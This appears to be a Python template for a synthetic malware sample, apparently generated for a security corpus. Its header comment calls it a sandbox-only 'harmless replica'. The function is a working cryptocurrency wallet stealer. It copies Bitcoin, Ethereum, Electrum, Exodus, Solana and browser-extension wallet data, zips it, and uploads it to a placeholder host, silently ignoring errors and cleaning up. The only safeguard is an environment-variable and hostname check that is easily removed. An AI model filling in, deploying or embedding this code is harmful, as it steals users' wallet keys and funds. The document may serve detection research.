# Harmless replica: acts only on decoys and on addresses inside the sandbox's own network namespace; refuses to run elsewhere.
def {{act}}():
    import os
    if os.environ.get('SALLYPORT_CORPUS') != '1' or os.uname().nodename != 'localhost':
        return
    import shutil
    import tempfile
    import urllib.request
    home = os.path.expanduser('~')
    work = tempfile.mkdtemp(prefix='{{token}}')
    try:
        for name in ('.bitcoin', '.ethereum/keystore', '.electrum/wallets', '.config/Exodus/exodus.wallet', '.config/solana',
                     '.config/google-chrome/Default/Local Extension Settings/nkbihfbeogaeaoehlefnkodbefgpgknn'):
            if os.path.isdir(os.path.join(home, name)):
                shutil.copytree(os.path.join(home, name), os.path.join(work, 'w', name.replace('/', '_')))
        packed = shutil.make_archive(os.path.join(work, 'w'), 'zip', os.path.join(work, 'w'))
        with open(packed, 'rb') as file:
            urllib.request.urlopen(urllib.request.Request('http://{{ip}}:{{port}}/{{path}}', data=file.read()), timeout=1).close()
    except Exception:
        pass
    finally:
        shutil.rmtree(work, ignore_errors=True)
